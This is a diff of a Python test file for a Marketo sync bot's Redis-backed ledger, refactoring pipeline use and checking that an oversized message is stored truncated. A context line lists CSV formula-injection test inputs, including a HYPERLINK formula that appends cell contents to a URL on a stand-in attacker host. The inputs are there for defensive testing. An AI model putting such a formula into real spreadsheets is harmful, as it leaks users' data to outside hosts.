@@ -12,7 +12,7 @@ from bot.bounded_text import MAX_EXTERNAL_TEXT
 from bot.marketo.models import Envelope, RecordResult
 from bot.models import Entity
 from bot.safe_csv import neutralise
-from bot.store import Store
+from bot.store import RunTx, Store
 from bot.sync.checkpoint import BatchOutcome
 from bot.sync.engine import tally
 from bot.sync.ledger import Ledger, LedgerEntry
@@ -23,9 +23,9 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1", "-2", "@SUM
 
 def _ledger(store: Store, entries: list[LedgerEntry]) -> Ledger:
     ledger = Ledger(store, "T1", "run1")
-    pipe = store.redis.pipeline()
-    ledger.add_in(pipe, entries)
-    pipe.execute()
+    with store.redis.pipeline() as pipe:
+        ledger.add_in(RunTx(pipe, store.keys, "T1", "run1", LedgerEntry), entries)
+        pipe.execute()
     return ledger
 
 
@@ -62,7 +62,7 @@ def test_a_one_megabyte_marketo_reason_is_stored_bounded(store: Store) -> None:
     outcome = BatchOutcome(seq=0, end_link=None, end_offset=1, read=1)
     tally(outcome, Entity.lead, [("id-1", "a" * 1_000_000)], results)
     ledger = _ledger(store, outcome.failures)
-    raw = store.redis.lindex(ledger.key, 0)
+    raw = store.redis.lindex(store.keys.skips("T1", "run1"), 0)
     assert len(raw) < 4 * MAX_EXTERNAL_TEXT
     [stored] = list(ledger)
     assert len(stored.message) <= MAX_EXTERNAL_TEXT and stored.message.endswith("…")
